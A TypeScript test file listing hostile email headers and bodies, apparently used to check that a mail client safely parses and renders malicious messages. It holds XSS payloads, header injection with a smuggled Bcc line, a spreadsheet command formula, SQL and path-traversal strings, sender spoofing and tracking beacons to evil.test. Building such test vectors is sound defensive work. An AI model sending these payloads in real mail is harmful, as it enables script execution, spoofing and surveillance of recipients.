import { base64, type Vector } from "./vector";

const word = (text: string) => `=?utf-8?B?${base64(text)}?=`;
const HTML = "Content-Type: text/html";

/** Lines of a header, and behind an empty line the body where it matters. `{from}` is the address that the mail comes from,
 * `{date}` its time in ms. */
export const HEADERS: Vector[] = [
  ["a name that is a tag", `From: "<img src={url} onerror={run}>" <{from}>`],
  [
    "a name that is a tag in an encoded word",
    ({ run, url }) => `From: ${word(`<script>${run}</script><img src="${url}">`)} <{from}>`,
  ],
  ["a name that ends a title", ({ run }) => `From: ${word(`</title></h2></dd><script>${run}</script>`)} <{from}>`],
  ["a name that breaks out of an attribute", `From: "\\" onmouseover=\\"{run}" <{from}>`],
  ["a name that is another address", `From: "ceo@bank.test <ceo@bank.test>" <{from}>`],
  ["a name that runs backwards", ({ n }) => `From: ${word(`\u202e${n} \u2067tset.knab@oec\u2069`)} <{from}>`],
  ["a name with line breaks", ({ n }) => `From: ${word(`Hi\r\nBcc: h${n}@evil.test\r\n\r\n<script>`)} <{from}>`],
  [
    "a name with NUL and controls",
    ({ run }) => `From: ${word(`H\u0000i\u001b[31m\u0008 <b onclick=${run}>`)} <{from}>`,
  ],
  ["a name without end", ({ run }) => `From: ${word(`<img onerror=${run}>`.repeat(800))} <{from}>`],
  [
    "two senders",
    `From: <{from}>, "<script>{run}</script>" <ceo@bank.test>\nSender: "<script>{run}</script>" <ceo@bank.test>`,
  ],
  ["a sender in a comment", `From: (<script>{run}</script>) <{from}> (by "<img src={url}>")`],
  ["a subject that is a script", `Subject: </title><script>{run}</script><img src={url} onerror={run}>`],
  [
    "a subject in encoded words that part a tag",
    ({ run }) => `Subject: ${word("<scr")} ${word(`ipt>${run}</script>`)}`,
  ],
  ["a subject in printed words", `Subject: =?utf-8?Q?=3Cimg_src=3D{url}_onerror=3D{run}=3E?=`],
  ["a subject in UTF-7", `Subject: =?utf-7?Q?+ADw-script+AD4-{run}+ADw-/script+AD4-?=`],
  [
    "a subject in ISO-2022-JP",
    ({ run }) => `Subject: =?iso-2022-jp?B?${base64(`\u001b$B"\u001b(B<img onerror=${run}>`)}?=`,
  ],
  [
    "a subject that adds lines to the header",
    ({ url }) => `Subject: ${word(`Hi\r\nContent-Type: text/html\r\n\r\n<img src=${url}>`)}`,
  ],
  [
    "a subject that is a command of a list",
    `Subject: Re: Re: AW: {{lead.email}} =cmd|' /C calc'!A{n}\nX-Formula: =HYPERLINK("{url}")`,
  ],
  ["a subject folded over and over", `Subject: Hi\n <script>\n\t{run}\n </script>\n${" x\n".repeat(300)} end`],
  [
    "an answer that goes elsewhere",
    `Reply-To: "<img src=cid:a onerror={run}>" <h{n}@evil.test>, javascript:{run}@evil.test`,
  ],
  [
    "an answer to many",
    `Reply-To: ${Array.from({ length: 300 }, (_, at) => `"<b onclick={run}>" <h${at}@evil.test>`).join(",\n ")}`,
  ],
  [
    "recipients that are tags",
    `To: "<script>{run}</script>" <a@evil.test>, "<img src={url}>":;\nCc: <"\\"><svg onload={run}>"@evil.test>`,
  ],
  [
    "a list that leads elsewhere",
    `List-Unsubscribe: <{url}>, <javascript:{run}>\nList-Unsubscribe-Post: List-Unsubscribe=One-Click\nList-Id: "<script>{run}</script>" <a.evil.test>\nList-Archive: <{url}>`,
  ],
  [
    "a receipt that is asked for",
    `Disposition-Notification-To: <h{n}@evil.test>\nReturn-Receipt-To: <h{n}@evil.test>\nX-Confirm-Reading-To: <{url}>`,
  ],
  [
    "a face and a logo",
    `Face: {url}\nX-Face: {url}\nX-Image-URL: {url}\nBIMI-Location: v=BIMI1; l={url}\nBIMI-Indicator: PHN2Zy8+`,
  ],
  ["an id that is a tag", `Message-ID: <"><script>{run}</script>h{n}.{date}@evil.test>`],
  ["an id that is a path", `Message-ID: <../../../../h{n}.{date}@evil.test>\nX-Message: h{n}`],
  ["an id with a quote and spaces", `Message-ID: <h{n}.{date} ' or 1=1 -- @evil.test>`],
  [
    "references without number",
    `References: ${Array.from({ length: 900 }, (_, at) => `<r${at}.h{n}@evil.test>`).join("\n ")}`,
  ],
  ["a date that is a tag", `Date: <script>{run}</script>`],
  ["a date beyond all calendars", `Date: Fri, 31 Feb 275760 99:99:99 +9999 (<img src={url}>)`],
  [
    "a body's location and base",
    `Content-Base: "{url}"\nContent-Location: {url}\n${HTML}\n\n<p>Hi</p><img src="h{n}.png">`,
  ],
  [
    "a type with a script in it",
    `Content-Type: text/html; charset="utf-8\\"><script>{run}</script>"\n\n<p>Hi</p><img src=cid:a onerror={run}>`,
  ],
  [
    "a type given twice",
    `Content-Type: text/plain\nContent-Type: text/html\n\n<script>{run}</script><img src="{url}" onerror="{run}">Hi`,
  ],
  ["a type that no one knows", `Content-Type: text/x-html; charset=utf-8\n\n<script>{run}</script><img src="{url}">Hi`],
  [
    "a body of XHTML",
    `Content-Type: application/xhtml+xml\n\n<html xmlns="http://www.w3.org/1999/xhtml"><script>{run}</script><p>Hi</p></html>`,
  ],
  [
    "a body that is a picture",
    `Content-Type: image/svg+xml\n\n<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><image href="{url}"/></svg>`,
  ],
  [
    "a body that lies elsewhere",
    `Content-Type: message/external-body; access-type=URL; url="{url}"\n\nContent-Type: text/html\n\n`,
  ],
  [
    "HTML in UTF-7",
    `${HTML}; charset=utf-7\n\n<p>Hi</p>+ADw-script+AD4-{run}+ADw-/script+AD4-+ADw-img src+AD0AIg-{url}+ACIAPg-`,
  ],
  [
    "HTML in ISO-2022-JP",
    `${HTML}; charset=iso-2022-jp\n\n<img alt="\u001b$B" src="{url}"><p>Hi</p>\u001b(B<img alt=" onerror={run} src=cid:a ">`,
  ],
  [
    "HTML in UTF-16",
    ({ run }) =>
      `${HTML}; charset=utf-16le\nContent-Transfer-Encoding: base64\n\n${base64(Buffer.from(`<script>${run}</script><img src=cid:a onerror=${run}>Hi`, "utf16le"))}`,
  ],
  [
    "HTML in printed letters",
    `${HTML}\nContent-Transfer-Encoding: quoted-printable\n\n=3Cscr=\nipt=3E{run}=3C/scr=\nipt=3E=3Cimg src=3D"{url}"=00 onerror=3D"{run}"=3EHi`,
  ],
  [
    "two bodies that say different things",
    `MIME-Version: 1.0\nContent-Type: multipart/alternative; boundary="b"\n\n--b\nContent-Type: text/html\n\n<script>{run}</script>Hi\n--b\nContent-Type: text/plain\n\n<script>{run}</script>\n--b\nContent-Type: text/x-amp-html\n\n<!doctype html><html amp4email><amp-img src="{url}"></amp-img></html>\n--b--`,
  ],
  [
    "a boundary that comes in a header",
    `Content-Type: multipart/mixed; boundary="b"\nX-Part: --b\n\n--b\nContent-Type: text/html\nContent-Disposition: inline; filename="a.html"\n\n<script>{run}</script>Hi\n--b--\n--b\n\nlate <script>{run}</script>`,
  ],
];
